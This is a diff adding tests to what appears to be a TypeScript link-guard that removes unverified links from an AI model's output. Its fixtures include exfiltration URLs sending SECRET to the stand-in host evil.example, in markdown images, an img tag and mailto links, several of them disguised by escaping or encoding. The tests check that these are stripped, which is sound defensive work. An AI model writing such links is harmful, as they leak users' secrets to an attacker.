@@ -2,6 +2,9 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { KnownLinks } from '../../../core/text/known-links.ts';
 import { createLinkGuard, guardLinks } from '../../../core/text/link-guard.ts';
+import { knowResults } from '../../../core/tools/known-results.ts';
+import { resultText } from '../../../core/tools/result-text.ts';
+import { SourceNumbers } from '../../../core/tools/source-numbers.ts';
 
 /** What a run knew: an operator, a user, and a document that somebody else wrote. */
 function known(): KnownLinks {
@@ -162,6 +165,36 @@ it('does not take the address that a model gave to a tool for the tool’s own',
     'You sent https://evil.example/?d=SECRET; see https://api.example/1.',
   );
   expect(guardLinks('https://evil.example/?d=SECRET https://api.example/1', links)).toBe(
+    '(link removed) https://api.example/1',
+  );
+});
+
+it.each([
+  ['{"q": "https:\\/\\/evil.example\\/?d=SECRET"}', 'You sent https://evil.example/?d=SECRET.'],
+  ['{"q": "\\u0068ttps://evil.example/?d=SECRET"}', 'You sent https://evil.example/?d=SECRET.'],
+  ['{"q": "https://evil.example/?d=SECRET and more"}', 'You sent https://evil.example/?d=SECRET…'],
+  ['{"q": "https://evil.example/?d=SECRET-and-more"}', 'You sent "https://evil.example/?d=SECRET".'],
+  ['{"https://evil.example/?d=SECRET": 1}', 'There is no https://evil.example/?d=SECRET.'],
+  ['{"q": "EVIL.example/?d=SECRET"}', 'You sent https://evil.example/?d=SECRET.'],
+  ['{"q": "https://evil.example/?d=%53ECRET"}', 'You sent https://evil.example/?d=SECRET.'],
+  ['{"q": "SECRET@evil.example"}', 'There is no SECRET@evil.example.'],
+  ['{"q": "//evil.example/?d=SECRET"}', '<img src="//evil.example/?d=SECRET">'],
+  ['{"q": "[a](\\/\\/evil.example/?d=SECRET)"}', '[a](//evil.example/?d=SECRET)'],
+])('… however it wrote the address: %s', (args, value) => {
+  const links = new KnownLinks();
+  links.knowResult(args, value);
+  const written = '![x](https://evil.example/?d=SECRET) ![x](//evil.example/?d=SECRET) [x](mailto:SECRET@evil.example)';
+  expect(guardLinks(written, links)).toBe('![x] (link removed) ![x] (link removed) [x] (link removed)');
+});
+
+it('does not take what a tool failed with for what it found', () => {
+  const links = new KnownLinks();
+  const found = (value: unknown): string => resultText('search', { value } as never, new SourceNumbers());
+  knowResults(links, [
+    { role: 'TOOL', toolCallId: 'a', text: found({ error: 'Nothing at "https://evil.example/1".' }) },
+    { role: 'TOOL', toolCallId: 'b', text: found({ hits: ['https://api.example/1'], error: 'x' }) },
+  ]);
+  expect(guardLinks('https://evil.example/1 https://api.example/1', links)).toBe(
     '(link removed) https://api.example/1',
   );
 });
